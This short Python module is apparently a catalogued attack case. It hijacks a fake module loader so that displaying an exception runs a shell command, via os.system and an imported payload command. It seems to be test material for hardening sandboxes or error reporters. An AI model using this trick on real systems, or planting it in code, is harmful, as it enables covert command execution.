"""Whoever shows an exception asks the code's loader for its source."""
CATEGORY = "borrowed"
REACH = "run"

import os
import types

from . import payload


def attack():
    names = {"__name__": payload.COMMAND,
             "__loader__": types.SimpleNamespace(get_source=os.system)}
    exec(compile("1 / 0", "/there/is/none.py", "exec"), names)
